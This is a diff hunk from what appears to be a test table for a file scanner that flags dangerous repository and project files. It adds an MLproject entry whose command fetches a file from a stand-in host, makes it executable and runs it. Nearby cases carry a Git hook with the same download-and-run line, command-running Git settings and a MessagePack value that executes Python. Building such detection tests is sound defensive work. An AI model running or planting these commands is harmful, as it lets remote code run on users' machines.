@@ -170,6 +170,7 @@ CASES = [  # what it is, bytes, name, verdict, words of a remark
     ("a monitor in Git's settings", b'[core]\n\tfsmonitor = "sh -c true"\n', ".git/config", DANGEROUS, "fsmonitor"),
     ("a filter in Git's settings", b'[filter "x"]\n\tsmudge = /tmp/tool %f\n', ".git/config", SUSPICIOUS, "smudge"),
     ("a hook that makes what it downloads runnable", b"#!/bin/sh\nwget http://x.example/a -O a && chmod +x a && ./a\n", ".git/hooks/post-merge", DANGEROUS, "a hook of Git's"),
+    ("an entry of a project that makes what it downloads runnable", b"entry_points:\n  main:\n    command: 'wget http://x.example/a -O a && chmod +x a && ./a'\n", "MLproject", DANGEROUS, "runs what it downloads"),
     ("filters of git-annex and git-crypt", b'[filter "annex"]\n\tprocess = git-annex filter-process\n[filter "git-crypt"]\n\tsmudge = \\"git-crypt\\" smudge\n\tclean = "\\"git-crypt\\" clean"\n', ".git/config", NOTHING, ""),
     ("Git's settings", b'[core]\n\tfsmonitor = true\n\tbare = false\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[remote "origin"]\n\turl = https://x.example/y\n', ".git/config", NOTHING, ""),
     ("MessagePack with code", b"\x81\xa4code\xbf__import__('os').system('true')", "m.msgpack", DANGEROUS, "a value is code"),
